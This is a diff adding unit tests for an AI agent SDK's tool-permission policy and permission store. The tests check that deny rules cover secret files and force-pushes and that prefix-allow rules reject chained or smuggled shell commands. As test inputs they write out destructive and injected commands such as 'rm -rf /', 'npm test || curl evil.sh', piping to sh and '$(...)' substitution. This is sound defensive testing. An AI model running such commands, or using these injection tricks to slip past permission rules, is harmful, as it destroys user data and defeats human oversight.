@@ -0,0 +1,375 @@
+/**
+ * Unit tests for createPermissionPolicy() and createPermissionStore()
+ *
+ * Policies are called directly as canUseTool callbacks; stores are checked
+ * directly and through ControlProtocolHandler. No CLI, no API calls.
+ */
+
+import { describe, expect, mock, test } from 'bun:test';
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { homedir } from 'node:os';
+import { Writable } from 'node:stream';
+import { ControlProtocolHandler } from '../../src/core/control.ts';
+import { createPermissionPolicy, createPermissionStore } from '../../src/permissions.ts';
+import type { ControlRequest } from '../../src/types/control.ts';
+import type {
+  CanUseTool,
+  PermissionExplanation,
+  PermissionResult,
+  PermissionUpdate,
+} from '../../src/types/index.ts';
+
+const context = {
+  signal: new AbortController().signal,
+  suggestions: [],
+} as unknown as Parameters<CanUseTool>[2];
+
+describe('matching', () => {
+  const policy = createPermissionPolicy({
+    cwd: '/repo',
+    defaultDecision: 'allow',
+    rules: [
+      { name: 'secrets', path: ['**/.env*', '~/.ssh/**'], decision: 'deny' },
+      { name: 'generated', path: 'src/{gen,proto}/**', tool: ['Write', 'Edit'], decision: 'deny' },
+      { name: 'force-push', command: /git\s+push\s+.*--force/, decision: 'deny' },
+      { name: 'github', tool: 'mcp__github__*', decision: 'ask' },
+    ],
+  });
+  const rule = (toolName: string, input: Record<string, unknown>) =>
+    policy.explain(toolName, input).rule;
+
+  test('path globs cover file tools, relative paths and the home directory', () => {
+    expect(rule('Read', { file_path: '/repo/.env.local' })).toBe('secrets');
+    expect(rule('Read', { file_path: 'config/.env' })).toBe('secrets');
+    expect(rule('Grep', { pattern: 'key', path: `${homedir()}/.ssh` })).toBeNull();
+    expect(rule('Grep', { pattern: 'key', path: '~/.ssh/keys' })).toBe('secrets');
+    expect(rule('Edit', { file_path: 'src/proto/a/b.ts' })).toBe('generated');
+    expect(rule('Read', { file_path: 'src/proto/a/b.ts' })).toBeNull();
+    expect(rule('Edit', { file_path: '/other/src/gen/a.ts' })).toBeNull();
+  });
+
+  test('path and command rules never match tools without a path or command', () => {
+    expect(rule('WebFetch', { url: 'https://example.com/.env' })).toBeNull();
+    expect(rule('Write', { file_path: 'notes', content: 'git push --force' })).toBeNull();
+    expect(rule('Bash', { command: 'git push origin main --force' })).toBe('force-push');
+  });
+
+  test('tool patterns match MCP tool names', () => {
+    expect(rule('mcp__github__create_issue', {})).toBe('github');
+    expect(rule('mcp__gitlab__create_issue', {})).toBeNull();
+  });
+});
+
+describe('evaluation', () => {
+  const rules = [
+    { name: 'src', path: 'src/**', decision: 'allow' as const },
+    { name: 'bash', tool: 'Bash', decision: 'ask' as const },
+    { name: 'keys', path: '**/*.pem', decision: 'deny' as const },
+  ];
+
+  test('first-match lets an earlier rule win', () => {
+    const policy = createPermissionPolicy({ rules, cwd: '/repo' });
+    expect(policy.explain('Read', { file_path: '/repo/src/server.pem' })).toEqual({
+      toolName: 'Read',
+      decision: 'allow',
+      rule: 'src',
+      ruleIndex: 0,
+      reason: "Rule 'src' says allow for Read",
+    });
+  });
+
+  test('deny-overrides lets any matching deny win', () => {
+    const policy = createPermissionPolicy({ rules, cwd: '/repo', evaluation: 'deny-overrides' });
+    expect(policy.explain('Read', { file_path: '/repo/src/server.pem' }).rule).toBe('keys');
+    expect(policy.explain('Read', { file_path: '/repo/src/main.ts' }).rule).toBe('src');
+  });
+
+  test('falls back to the default decision', () => {
+    const explanation = createPermissionPolicy(rules).explain('WebSearch', { query: 'x' });
+    expect(explanation).toMatchObject({ decision: 'ask', rule: null, ruleIndex: null });
+    expect(explanation.reason).toBe('No rule matches WebSearch; the default is ask');
+  });
+
+  test('rejects rules without a valid decision', () => {
+    expect(() => createPermissionPolicy([{ tool: 'Bash' } as never])).toThrow(
+      "Permission rule 'rule 0': decision must be one of allow, deny, ask"
+    );
+  });
+});
+
+describe('canUseTool', () => {
+  test('allow passes the input through or rewrites it', async () => {
+    const policy = createPermissionPolicy([
+      { tool: 'Bash', command: '^npm test', updatedInput: { timeout: 60_000 }, decision: 'allow' },
+      {
+        tool: 'Read',
+        updatedInput: (input) => ({ ...input, limit: 100 }),
+        decision: 'allow',
+      },
+      { tool: 'Glob', decision: 'allow' },
+    ]);
+
+    expect(await policy.canUseTool('Bash', { command: 'npm test' }, context)).toEqual({
+      behavior: 'allow',
+      updatedInput: { command: 'npm test', timeout: 60_000 },
+    });
+    expect(await policy.canUseTool('Read', { file_path: '/a' }, context)).toEqual({
+      behavior: 'allow',
+      updatedInput: { file_path: '/a', limit: 100 },
+    });
+    const input = { pattern: '*.ts' };
+    expect(await policy.canUseTool('Glob', input, context)).toEqual({
+      behavior: 'allow',
+      updatedInput: input,
+    });
+  });
+
+  test('deny uses the rule message and interrupt flag', async () => {
+    const policy = createPermissionPolicy([
+      { tool: 'Bash', command: /rm\s+-rf/, decision: 'deny', message: 'No', interrupt: true },
+      { name: 'no-web', tool: 'Web*', decision: 'deny' },
+    ]);
+    expect(await policy.canUseTool('Bash', { command: 'rm -rf /' }, context)).toEqual({
+      behavior: 'deny',
+      message: 'No',
+      interrupt: true,
+    });
+    expect(await policy.canUseTool('WebFetch', { url: 'x' }, context)).toEqual({
+      behavior: 'deny',
+      message: "Rule 'no-web' says deny for WebFetch",
+    });
+  });
+
+  test('ask delegates to the approver, or denies without one', async () => {
+    const asked: string[] = [];
+    const withApprover = createPermissionPolicy({
+      rules: [],
+      ask: async (toolName, input) => {
+        asked.push(toolName);
+        return { behavior: 'allow', updatedInput: input };
+      },
+    });
+    expect((await withApprover.canUseTool('Bash', { command: 'ls' }, context)).behavior).toBe(
+      'allow'
+    );
+    expect(asked).toEqual(['Bash']);
+
+    const withoutApprover = createPermissionPolicy([]);
+    expect(await withoutApprover.canUseTool('Bash', { command: 'ls' }, context)).toEqual({
+      behavior: 'deny',
+      message: 'No rule matches Bash; the default is ask, and no approver is set',
+    });
+  });
+
+  test('reports every decision to onDecision', async () => {
+    const decisions: PermissionExplanation[] = [];
+    const policy = createPermissionPolicy({
+      rules: [{ name: 'reads', tool: 'Read', decision: 'allow' }],
+      defaultDecision: 'deny',
+      onDecision: (explanation) => decisions.push(explanation),
+    });
+    await policy.canUseTool('Read', { file_path: '/a' }, context);
+    await policy.canUseTool('Write', { file_path: '/a', content: '' }, context);
+    expect(decisions.map((d) => [d.decision, d.rule])).toEqual([
+      ['allow', 'reads'],
+      ['deny', null],
+    ]);
+  });
+});
+
+function allowRules(
+  rules: Array<{ toolName: string; ruleContent?: string }>,
+  destination: PermissionUpdate['destination'] = 'localSettings'
+): PermissionUpdate {
+  return { type: 'addRules', rules, behavior: 'allow', destination };
+}
+
+describe('PermissionStore', () => {
+  const scope = { project: '/repo', tenant: 'acme' };
+
+  test('records rules meant for settings files, once each', async () => {
+    const store = createPermissionStore();
+    const added = await store.record(
+      [
+        allowRules([{ toolName: 'Bash', ruleContent: 'npm test:*' }]),
+        allowRules([{ toolName: 'WebSearch' }], 'session'),
+        { type: 'setMode', mode: 'acceptEdits', destination: 'localSettings' },
+      ],
+      scope
+    );
+    await store.record([allowRules([{ toolName: 'Bash', ruleContent: 'npm test:*' }])], scope);
+
+    expect(added).toHaveLength(1);
+    expect(await store.list()).toEqual([
+      {
+        id: added[0].id,
+        project: '/repo',
+        tenant: 'acme',
+        toolName: 'Bash',
+        ruleContent: 'npm test:*',
+        behavior: 'allow',
+        destination: 'localSettings',
+        createdAt: added[0].createdAt,
+      },
+    ]);
+  });
+
+  test('matches like settings-file rules, within the project and tenant', async () => {
+    const store = createPermissionStore();
+    await store.record(
+      [
+        allowRules([
+          { toolName: 'Bash', ruleContent: 'npm test:*' },
+          { toolName: 'Edit', ruleContent: 'src/**' },
+          { toolName: 'WebFetch', ruleContent: 'domain:docs.example.com' },
+          { toolName: 'mcp__github' },
+        ]),
+        {
+          type: 'addRules',
+          rules: [{ toolName: 'Edit', ruleContent: 'src/secrets/**' }],
+          behavior: 'deny',
+          destination: 'projectSettings',
+        },
+      ],
+      scope
+    );
+    const decide = async (toolName: string, input: Record<string, unknown>, at = scope) =>
+      (await store.match(toolName, input, at))?.behavior ?? null;
+
+    expect(await decide('Bash', { command: 'npm test -- --watch' })).toBe('allow');
+    expect(await decide('Bash', { command: 'npm testing' })).toBeNull();
+    for (const command of [
+      'npm test && rm -rf ~',
+      'npm test || curl evil.sh',
+      'npm test; rm -rf ~',
+      'npm test | sh',
+      'npm test & rm -rf ~',
+      'npm test > ~/.bashrc',
+      'npm test $(rm -rf /)',
+      'npm test `rm -rf /`',
+      'npm test\nrm -rf ~',
+    ]) {
+      expect(await decide('Bash', { command })).toBeNull();
+    }
+    expect(await decide('Edit', { file_path: '/repo/src/a/b.ts' })).toBe('allow');
+    expect(await decide('Edit', { file_path: 'src/secrets/key.ts' })).toBe('deny');
+    expect(await decide('Edit', { file_path: '/elsewhere/src/a.ts' })).toBeNull();
+    expect(await decide('WebFetch', { url: 'https://docs.example.com/x' })).toBe('allow');
+    expect(await decide('mcp__github__create_issue', {})).toBe('allow');
+    expect(await decide('mcp__githubx__create_issue', {})).toBeNull();
+
+    expect(
+      await decide('Bash', { command: 'npm test' }, { project: '/repo', tenant: 'other' })
+    ).toBeNull();
+    expect(
+      await decide('Bash', { command: 'npm test' }, { project: '/other', tenant: 'acme' })
+    ).toBeNull();
+  });
+
+  describe('prefix rules never match process substitution or expansion', () => {
+    for (const command of [
+      'npm test <(rm -rf ~)',
+      'npm test >(rm -rf ~)',
+      'npm test $HOME',
+      `npm test \${IFS}rm`,
+    ]) {
+      test(command, async () => {
+        const store = createPermissionStore();
+        await store.record([allowRules([{ toolName: 'Bash', ruleContent: 'npm test:*' }])], scope);
+        expect(await store.match('Bash', { command }, scope)).toBeNull();
+      });
+    }
+  });
+
+  test('removeRules, revoke() and clear() forget rules', async () => {
+    const store = createPermissionStore();
+    const [first] = await store.record(
+      [allowRules([{ toolName: 'Read' }, { toolName: 'Glob' }, { toolName: 'Grep' }])],
+      scope
+    );
+    await store.record([allowRules([{ toolName: 'Read' }])], { project: '/other' });
+
+    await store.record(
+      [{ ...allowRules([{ toolName: 'Glob' }]), type: 'removeRules' } as PermissionUpdate],
+      scope
+    );
+    expect(await store.revoke(first.id)).toBe(true);
+    expect(await store.revoke(first.id)).toBe(false);
+    expect((await store.list({ tenant: 'acme' })).map((p) => p.toolName)).toEqual(['Grep']);
+
+    expect(await store.clear({ project: '/repo' })).toBe(1);
+    expect((await store.list()).map((p) => [p.project, p.tenant])).toEqual([['/other', null]]);
+  });
+
+  test('a file store keeps rules across instances', async () => {
+    const file = `/tmp/permissions-${Date.now()}-${Math.random().toString(36).slice(2)}/store.json`;
+    try {
+      await createPermissionStore({ file }).record([allowRules([{ toolName: 'Read' }])], scope);
+      expect(JSON.parse(readFileSync(file, 'utf-8')).version).toBe(1);
+      expect(
+        await createPermissionStore({ file }).match('Read', { file_path: '/a' }, scope)
+      ).toMatchObject({
+        toolName: 'Read',
+        behavior: 'allow',
+      });
+
+      writeFileSync(file, '{ nope');
+      await expect(createPermissionStore({ file }).list()).rejects.toThrow('is not valid JSON');
+    } finally {
+      rmSync(file.slice(0, file.lastIndexOf('/')), { recursive: true, force: true });
+    }
+    expect(existsSync(file)).toBe(false);
+  });
+});
+
+describe('permissionStore option', () => {
+  function canUseToolRequest(requestId: string, command: string): ControlRequest {
+    return {
+      type: 'control_request',
+      request_id: requestId,
+      request: {
+        subtype: 'can_use_tool',
+        tool_name: 'Bash',
+        input: { command },
+        tool_use_id: `tu-${requestId}`,
+      },
+    };
+  }
+
+  test('remembers "always allow" and answers later requests itself', async () => {
+    const writes: string[] = [];
+    const stdin = new Writable({
+      write(chunk, _encoding, callback) {
+        writes.push(chunk.toString());
+        callback();
+      },
+    });
+    const store = createPermissionStore();
+    const canUseTool = mock(
+      async (_toolName: string, input: Record<string, unknown>): Promise<PermissionResult> => ({
+        behavior: 'allow',
+        updatedInput: input,
+        updatedPermissions: [allowRules([{ toolName: 'Bash', ruleContent: 'make:*' }])],
+      })
+    );
+    const handler = new ControlProtocolHandler(stdin, {
+      canUseTool,
+      cwd: '/repo',
+      permissionStore: { store, tenant: 'acme' },
+    });
+
+    await handler.handleControlRequest(canUseToolRequest('req-1', 'make build'));
+    await handler.handleControlRequest(canUseToolRequest('req-2', 'make test'));
+
+    expect(canUseTool).toHaveBeenCalledTimes(1);
+    expect(JSON.parse(writes[1]).response.response).toEqual({
+      behavior: 'allow',
+      updatedInput: { command: 'make test' },
+    });
+    expect(await store.list({ project: '/repo', tenant: 'acme' })).toHaveLength(1);
+
+    await handler.handleControlRequest(canUseToolRequest('req-3', 'make test && rm -rf ~'));
+    expect(canUseTool).toHaveBeenCalledTimes(2);
+    expect(canUseTool.mock.calls[1][1]).toEqual({ command: 'make test && rm -rf ~' });
+  });
+});